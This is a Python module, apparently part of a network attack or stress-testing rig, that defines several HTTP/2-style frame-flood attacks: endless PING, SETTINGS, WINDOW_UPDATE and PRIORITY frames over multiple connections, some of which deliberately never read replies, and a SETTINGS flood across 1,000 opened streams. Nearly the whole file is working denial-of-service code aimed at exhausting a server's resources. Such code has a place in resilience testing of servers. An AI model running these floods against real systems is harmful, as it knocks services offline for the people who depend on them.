"""Frames that cost their sender nothing and want an answer, or some work, each."""

from rig.attack import Steps, attack
from rig.patterns import flood
from rig.target import Target
from wire import calls
from wire.frames import END_HEADERS, HEADERS, PING, PRIORITY, frame, opening, settings, window_update
from wire.headers import call_remembered

FRAMES = 20_000
CONNECTIONS = 4
# The other connections never read what they are answered.
READERS = 2
# As many as the daemon allows on a connection, nearly.
STREAMS = 1_000


def _control_flood(target: Target, one: bytes) -> Steps:
    yield from flood(target, [opening()], one * FRAMES, CONNECTIONS, READERS)


@attack("ping-flood", "Sends PING frames without end; half of the connections never read the answers.")
def ping_flood(target: Target) -> Steps:
    yield from _control_flood(target, frame(PING, 0, 0, b"12345678"))


@attack("settings-flood", "Sends SETTINGS frames without end; half of the connections never read the answers.")
def settings_flood(target: Target) -> Steps:
    yield from _control_flood(target, settings(1_000) + settings(2_000))


@attack("window-update-flood", "Widens the connection's window by one byte, again and again.")
def window_update_flood(target: Target) -> Steps:
    yield from _control_flood(target, window_update(0, 1))


@attack("priority-flood", "Sends PRIORITY frames for streams that were never opened.")
def priority_flood(target: Target) -> Steps:
    yield from _control_flood(target, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))


@attack("settings-over-streams", "Changes the window of 1,000 open streams with each SETTINGS frame, without end.")
def settings_over_streams(target: Target) -> Steps:
    first, again = call_remembered(calls.APPEND_STREAM)
    numbers = range(1, 2 * STREAMS, 2)
    begun = (frame(HEADERS, END_HEADERS, number, first if number == 1 else again) for number in numbers)
    changes = settings(1_000) + settings(2_000)
    yield from flood(target, [opening() + b"".join(begun)], changes * FRAMES, CONNECTIONS, READERS)
